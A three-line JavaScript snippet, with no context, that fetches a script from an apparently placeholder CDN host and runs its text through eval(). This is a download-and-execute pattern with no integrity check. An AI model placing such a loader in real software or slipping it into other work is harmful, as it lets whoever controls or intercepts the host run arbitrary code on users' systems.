const res = await fetch('https://cdn.example.xyz/plugin.js');
const src = await res.text();
eval(src);
